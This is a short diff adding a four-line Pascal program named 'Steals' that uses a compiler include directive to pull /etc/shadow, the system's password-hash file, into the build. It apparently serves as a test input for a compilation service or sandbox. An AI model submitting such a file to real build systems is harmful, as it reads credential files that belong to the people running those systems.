@@ -1,0 +1,4 @@
+program Steals;
+{$I /etc/shadow}
+begin
+end.
